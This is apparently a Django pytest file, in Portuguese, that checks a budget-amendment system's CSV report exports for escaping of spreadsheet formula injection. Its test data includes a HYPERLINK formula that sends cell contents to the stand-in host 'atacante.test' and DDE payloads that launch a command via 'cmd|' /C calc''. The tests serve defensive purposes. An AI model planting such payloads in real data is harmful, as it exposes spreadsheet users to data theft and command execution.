"""Nenhuma exportação CSV entrega uma célula que a planilha leria como fórmula."""

import pytest
from django.urls import reverse

from contas.models import Usuario
from convenios.models import Convenente
from emendas.models import Acao, Bloco, Indicacao, Parlamentar, Remanejamento, UnidadeOrcamentaria
from sigcon.csv_seguro import celula_segura

from .conftest import logado
from tests.fabricas import ler_csv

EXPORTACOES = [
    ("relatorio_remanejamentos_csv", {}),
    ("relatorio_indicacoes_csv", {"mostrar_encerradas": "1"}),
    ("relatorio_impedimentos_csv", {}),
    ("relatorio_incisos_csv", {}),
    ("relatorio_totalizacao_csv", {}),
    ("relatorio_parlamentares_csv", {}),
    ("relatorio_saldos_csv", {}),
]
HIPERLINK = '=HYPERLINK("http://atacante.test/?d="&A1;"clique")'
PERIGOSOS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def nomes_hostis(cenario):
    """Cada texto livre que aparece em algum relatório começa com um caractere de fórmula diferente."""
    Parlamentar.objects.filter(pk=cenario["parlamentar"].pk).update(nome=HIPERLINK)
    Parlamentar.objects.exclude(pk=cenario["parlamentar"].pk).update(nome="+55 31 cmd|' /C calc'!A0")
    Bloco.objects.update(nome="@SUM(1+1)*cmd|' /C calc'!A0")
    Usuario.objects.update(nome="-2+3+cmd|' /C calc'!A0")
    Convenente.objects.update(razao_social=HIPERLINK, municipio="=1+1")
    Indicacao.objects.update(objeto="\t=1+1", justificativa=HIPERLINK)
    Remanejamento.objects.update(justificativa="=1+1", detalhamento="\r=1+1")
    Acao.objects.update(nome="=Acao()")
    UnidadeOrcamentaria.objects.update(nome="@UO")
    return cenario


@pytest.mark.parametrize("url, parametros", EXPORTACOES, ids=[u for u, _ in EXPORTACOES])
def test_nome_com_formula_sai_neutralizado_em_toda_exportacao_csv(nomes_hostis, url, parametros):
    cabecalho, linhas = ler_csv(logado(nomes_hostis["segov"]).get(reverse(url), parametros))
    celulas = [c for linha in linhas for c in linha.values()]
    assert linhas, "o cenário precisa ter linhas neste relatório"
    perigosas = [c for c in celulas if c.startswith(PERIGOSOS) and celula_segura(c) != c]
    assert perigosas == []
    if url == "relatorio_totalizacao_csv":
        # Só UO/ação/grupo, sempre "código – nome": o texto hostil chega, mas não no início da célula.
        assert "4470 – =Acao()" in celulas
    else:
        # Os textos hostis chegaram ao arquivo, mas como texto: com o apóstrofo na frente.
        assert any(c.startswith("'") and c[1:].startswith(PERIGOSOS) for c in celulas)


def test_hyperlink_do_parlamentar_e_do_convenente_aparecem_com_apostrofo(nomes_hostis):
    c = logado(nomes_hostis["segov"])
    _, indicacoes = ler_csv(c.get(reverse("relatorio_indicacoes_csv"), {"mostrar_encerradas": "1"}))
    assert "'" + HIPERLINK in {v for linha in indicacoes for v in linha.values()}
    _, remanejamentos = ler_csv(c.get(reverse("relatorio_remanejamentos_csv")))
    assert {linha["Titular"] for linha in remanejamentos} == {"'" + HIPERLINK}
    assert {linha["Detalhamento"] for linha in remanejamentos} == {"'\r=1+1"}


@pytest.mark.parametrize("valor, esperado", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-1.234,56", "-1.234,56"), ("1.234,56", "1.234,56"), ("-12", "-12"),
    ("-", "'-"), ("- item", "'- item"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("", ""),
    ("Prefeitura", "Prefeitura"), ("a=1", "a=1"), ("-1,5+A1", "'-1,5+A1"),
])
def test_celula_segura_so_muda_texto_que_seria_formula(valor, esperado):
    assert celula_segura(valor) == esperado


def test_celula_segura_nao_mexe_em_numeros():
    from decimal import Decimal

    assert celula_segura(Decimal("-1.50")) == Decimal("-1.50")
    assert celula_segura(-3) == -3
    assert celula_segura(None) is None


def test_csv_feito_pelo_celery_sai_neutralizado_e_igual_ao_da_requisicao(
        nomes_hostis, monkeypatch, celery_na_hora, django_capture_on_commit_callbacks, tmp_path):
    """A tarefa escreve o CSV direto num temporário (``escrever_csv``, só as colunas de texto livre conferidas) e o
    move para o armazenamento: o arquivo baixado é o mesmo da resposta em fluxo e nenhum temporário fica para trás."""
    import tempfile

    from relatorios import base
    from relatorios.models import RelatorioGerado

    segov = logado(nomes_hostis["segov"])
    url, parametros = reverse("relatorio_indicacoes_csv"), {"mostrar_encerradas": "1"}
    na_hora = b"".join(segov.get(url, parametros).streaming_content)
    _, linhas = ler_csv(segov.get(url, parametros))
    assert "'" + HIPERLINK in {linha["Titular"] for linha in linhas}
    assert {linha["Objeto"] for linha in linhas} == {"'\t=1+1"}
    assert {linha["Município"] for linha in linhas} <= {"'=1+1", ""}
    monkeypatch.setattr(base, "LIMITE_CSV_NA_HORA", 1)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with django_capture_on_commit_callbacks(execute=True):
        segov.get(url, parametros)
    gerado = RelatorioGerado.objects.get()
    assert gerado.status == RelatorioGerado.Status.PRONTO
    baixado = segov.get(reverse("relatorio_gerado_baixar", args=[gerado.pk]))
    assert b"".join(baixado.streaming_content) == na_hora
    assert list(tmp_path.iterdir()) == []


def test_so_as_colunas_de_texto_sao_conferidas_e_as_outras_nao_podem_ser_formula():
    """``linhas_csv(..., textos=...)``: as colunas de texto livre saem neutralizadas como sem o atalho; as demais
    passam direto, e por isso não podem trazer texto livre (o relatório as declara)."""
    from sigcon.csv_seguro import linhas_csv

    linhas = [[1, "=1+1", "-1.234,56", "@x"], [2, "Prefeitura", "12,00", ""], [3, None, "-0,50", "+55"]]
    completo = "".join(linhas_csv(["Nº", "Nome", "Valor", "Obs"], [list(l) for l in linhas]))
    so_textos = "".join(linhas_csv(["Nº", "Nome", "Valor", "Obs"], [list(l) for l in linhas], textos=(1, 3)))
    assert so_textos == completo
    sem_conferir = "".join(linhas_csv(["Nº", "Nome", "Valor", "Obs"], [list(l) for l in linhas], textos=(1,)))
    assert "@x" in sem_conferir and "'@x" in completo
